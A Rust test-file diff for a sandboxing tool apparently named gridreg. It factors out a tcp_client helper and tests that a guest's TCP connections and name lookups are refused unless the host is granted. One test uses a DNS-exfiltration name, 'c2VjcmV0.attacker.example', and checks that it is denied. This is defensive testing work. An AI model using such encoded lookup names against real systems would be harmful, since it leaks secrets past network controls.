@@ -263,6 +263,17 @@ fn files_read_only_unless_rw() {
     );
 }
 
+/// `gridreg run` of the tcp-client fixture under `policy`, granted `hosts`, connecting to `addr`.
+fn tcp_client(policy: &str, hosts: &[&str], addr: &str) -> Output {
+    let client = fixture("tcp-client");
+    let mut args = vec!["run", &client, "--policy", policy];
+    for h in hosts {
+        args.extend(["--allow-host", h]);
+    }
+    args.extend(["--", addr]);
+    run(&args)
+}
+
 /// Accepts connections, answers each `ping` line with `pong`, and counts them.
 fn tcp_server() -> (u16, std::sync::mpsc::Receiver<String>) {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
@@ -287,14 +298,7 @@ fn tcp_only_to_allowed_hosts() {
     let addr = format!("127.0.0.1:{port}");
 
     let deny = policy(tmp.path(), &["network"]);
-    let o = run(&[
-        "run",
-        &fixture("tcp-client"),
-        "--policy",
-        &deny,
-        "--",
-        &addr,
-    ]);
+    let o = tcp_client(&deny, &[], &addr);
     assert_refused(&o, "wasi:sockets/", "network", "capability-denied");
     // Asking for a host under a policy that denies network (and outgoing HTTP) is an error.
     let deny_both = policy(tmp.path(), &["network", "http-outgoing"]);
@@ -311,43 +315,18 @@ fn tcp_only_to_allowed_hosts() {
 
     let allow = policy(tmp.path(), &[]);
     // Allowed by the policy but not granted a host: the connection is refused by the host.
-    let o = run(&[
-        "run",
-        &fixture("tcp-client"),
-        "--policy",
-        &allow,
-        "--",
-        &addr,
-    ]);
+    let o = tcp_client(&allow, &[], &addr);
     assert_eq!(code(&o), 1, "{}", text(&o.stderr));
     // A different port on the same host is not covered.
     let other = format!("127.0.0.1:{}", if port == 65535 { 1 } else { port + 1 });
-    let o = run(&[
-        "run",
-        &fixture("tcp-client"),
-        "--policy",
-        &allow,
-        "--allow-host",
-        &other,
-        "--",
-        &addr,
-    ]);
+    let o = tcp_client(&allow, &[&other], &addr);
     assert_eq!(code(&o), 1, "{}", text(&o.stderr));
     assert!(
         seen.try_recv().is_err(),
         "no connection may have reached the server"
     );
 
-    let o = run(&[
-        "run",
-        &fixture("tcp-client"),
-        "--policy",
-        &allow,
-        "--allow-host",
-        &addr,
-        "--",
-        &addr,
-    ]);
+    let o = tcp_client(&allow, &[&addr], &addr);
     assert_eq!(code(&o), 0, "{}", text(&o.stderr));
     assert_eq!(text(&o.stdout), "pong\n");
     assert_eq!(seen.recv().unwrap(), "ping\n");
@@ -362,16 +341,7 @@ fn name_lookups_only_for_allowed_names() {
 
     // The address "localhost" stands for is granted, but the name is not: the guest's lookup is
     // refused before any query is made (a lookup is traffic of its own), so it never connects.
-    let o = run(&[
-        "run",
-        &fixture("tcp-client"),
-        "--policy",
-        &allow,
-        "--allow-host",
-        &format!("127.0.0.1:{port}"),
-        "--",
-        &by_name,
-    ]);
+    let o = tcp_client(&allow, &[&format!("127.0.0.1:{port}")], &by_name);
     assert_eq!(code(&o), 1, "{}", text(&o.stderr));
     let err = text(&o.stderr);
     assert!(
@@ -379,16 +349,11 @@ fn name_lookups_only_for_allowed_names() {
         "{err}"
     );
     // A name that would carry data to whoever answers for its domain.
-    let o = run(&[
-        "run",
-        &fixture("tcp-client"),
-        "--policy",
+    let o = tcp_client(
         &allow,
-        "--allow-host",
-        &by_name,
-        "--",
+        &[&by_name],
         &format!("c2VjcmV0.attacker.example:{port}"),
-    ]);
+    );
     assert_eq!(code(&o), 1, "{}", text(&o.stderr));
     assert!(
         text(&o.stderr).contains("a name lookup of \"c2VjcmV0.attacker.example\" was denied"),
@@ -401,16 +366,7 @@ fn name_lookups_only_for_allowed_names() {
     );
 
     // Granted by name: the lookup goes through and the connection reaches the server.
-    let o = run(&[
-        "run",
-        &fixture("tcp-client"),
-        "--policy",
-        &allow,
-        "--allow-host",
-        &by_name,
-        "--",
-        &by_name,
-    ]);
+    let o = tcp_client(&allow, &[&by_name], &by_name);
     assert_eq!(code(&o), 0, "{}", text(&o.stderr));
     assert_eq!(text(&o.stdout), "pong\n");
     assert_eq!(seen.recv().unwrap(), "ping\n");
